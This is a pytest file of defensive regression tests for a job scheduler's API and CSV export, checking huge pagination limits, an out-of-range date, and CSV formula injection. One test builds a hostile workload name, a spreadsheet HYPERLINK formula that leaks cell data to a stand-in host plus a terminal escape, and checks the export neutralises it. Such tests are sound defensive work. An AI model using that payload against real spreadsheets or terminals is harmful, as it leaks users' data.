"""break25: hostile or careless input that answered 500; each case names what it was."""

from __future__ import annotations

import pytest

from scheduler.models import Workload


@pytest.mark.parametrize("url", ["/api/v1/workloads/", "/api/v1/groups/"])
def test_a_limit_beyond_any_database_integer_lists_everything(researcher_client, researcher, submit_kwargs, url):
    # ?limit=10**30 reached SQL as is: "datatype mismatch" on SQLite, out of range on PostgreSQL (500)
    from scheduler.services import do_submit_workload

    do_submit_workload(researcher, **submit_kwargs())
    researcher_client.raise_request_exception = False
    response = researcher_client.get(url, {"limit": "9" * 30, "offset": "0"})
    assert response.status_code == 200, response.content[:300]
    if url.startswith("/api/v1/workloads"):
        assert [w["id"] for w in response.json()["results"]] == list(Workload.objects.values_list("id", flat=True))


def test_a_statement_until_the_last_representable_day_is_a_400(researcher_client, org_tree):
    # the statement reads to the midnight after ``until``: date.max + 1 day was an OverflowError (500)
    researcher_client.raise_request_exception = False
    budget = org_tree["nlp/olmo"]
    response = researcher_client.get(
        f"/api/v1/budgets/{budget.pk}/statement.csv", {"since": "9999-12-01", "until": "9999-12-31"}
    )
    assert response.status_code == 400, response.content[:300]
    assert response.json()["code"] == "invalid_date"
    assert "until" in response.json()


def test_history_csv_does_not_hand_a_spreadsheet_another_users_formula(
    researcher, teammate, cluster, submit_kwargs, monkeypatch, django_capture_on_commit_callbacks
):
    """A teammate names a workload ``=HYPERLINK(...)`` with a terminal escape in it; the researcher's
    ``fairway history --csv`` wrote both raw: the spreadsheet ran the formula, the terminal the
    escape. The cell is now text (a leading ``'``) and the escape shows as ``\\x1b``."""
    import csv
    import io
    from datetime import timedelta

    from django.utils import timezone

    from scheduler import lifecycle
    from scheduler.models import Attempt
    from scheduler.services import do_submit_workload
    from scheduler.tick import run_tick
    from tests.cli.inprocess import run_cli

    name = '=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b[2J'
    at = timezone.now().replace(microsecond=0)
    with django_capture_on_commit_callbacks(execute=True):
        w = do_submit_workload(teammate, **submit_kwargs(name=name, gpu_count=1), submitted_at=at - timedelta(hours=2))
        run_tick(cluster.pk)
        attempt = Attempt.objects.select_related("host").get(workload=w)
        lifecycle.attempt_started(attempt.host, attempt.pk, now=at - timedelta(hours=1))
        lifecycle.attempt_exited(attempt.host, attempt.pk, -9, now=at - timedelta(minutes=30))
    text = run_cli(monkeypatch, researcher, "history", "--since", "7d", "--csv")
    assert "\x1b" not in text
    [record] = list(csv.DictReader(io.StringIO(text)))
    assert record["name"] == "'" + name.replace("\x1b", "\\x1b")
    assert record["owner"] == "teammate"
    assert record["exit_code"] == "-9"  # a number stays a number
